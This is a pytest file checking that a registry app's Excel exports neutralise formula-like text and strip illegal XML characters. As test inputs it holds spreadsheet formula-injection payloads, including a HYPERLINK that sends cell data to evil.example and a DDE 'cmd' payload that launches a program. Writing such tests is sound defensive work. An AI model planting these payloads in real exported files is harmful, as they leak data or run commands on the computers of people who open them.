"""Exports never write text as a live formula, and survive illegal XML characters.

Findings (issue 11, items 6 and 10): registry names and officers' text beginning with ``=``
were written as formulas (``=HYPERLINK(...)``); a NUL byte in an imported name made every
export containing it answer 500.
"""

from __future__ import annotations

import io
import zipfile
from types import SimpleNamespace

import pytest
from openpyxl import Workbook, load_workbook

from lantian.documents.cells import clean_text, is_formula_like, set_cell
from lantian.documents.excel import Column, read_sheet, write_sheet
from lantian.web.xlsx import rows_to_xlsx

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
]


def _sheet_xml(data: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        return z.read("xl/worksheets/sheet1.xml").decode()


@pytest.mark.parametrize("text", HOSTILE)
def test_formula_like_text_is_stored_as_quoted_text(text: str) -> None:
    wb = Workbook()
    ws = wb.active
    assert ws is not None
    set_cell(ws.cell(row=1, column=1), text)
    buf = io.BytesIO()
    wb.save(buf)
    xml = _sheet_xml(buf.getvalue())
    assert "<f>" not in xml and "<f " not in xml  # no formula element
    cell = load_workbook(io.BytesIO(buf.getvalue())).active["A1"]  # type: ignore[index]
    # (XML parsers turn a raw CR into LF; the text stays text either way)
    assert cell.data_type == "s" and cell.value == text.replace("\r", "\n") and cell.quotePrefix


def test_ordinary_values_are_untouched() -> None:
    assert not is_formula_like("冀东钢铁") and not is_formula_like(-5) and not is_formula_like(None)
    assert clean_text("a\x00b\x1fc\td\ne") == "abc\td\ne"


def test_list_export_neutralizes_names_and_drops_nul() -> None:
    data = rows_to_xlsx("Enterprises", ["name", "n"], [[HOSTILE[0] + "\x00", 1], ["=1+1", -3]])
    xml = _sheet_xml(data)
    assert "<f>" not in xml
    rows = read_sheet(data)
    assert rows[0]["name"] == HOSTILE[0] and rows[1] == {"name": "=1+1", "n": -3}


def test_document_sheets_neutralize_every_text_cell() -> None:
    cols = (Column("企业名称", 20, lambda r: r.name), Column("概述", 20, lambda r: r.summary))
    rows = [SimpleNamespace(name="=cmd|' /C calc'!A0", summary="ok\x00 \x07fine")]
    wb = Workbook()
    write_sheet(wb, "问题清单", cols, rows, first=True)
    buf = io.BytesIO()
    wb.save(buf)
    assert "<f>" not in _sheet_xml(buf.getvalue())
    got = read_sheet(buf.getvalue())
    assert got == [{"企业名称": "=cmd|' /C calc'!A0", "概述": "ok fine"}]
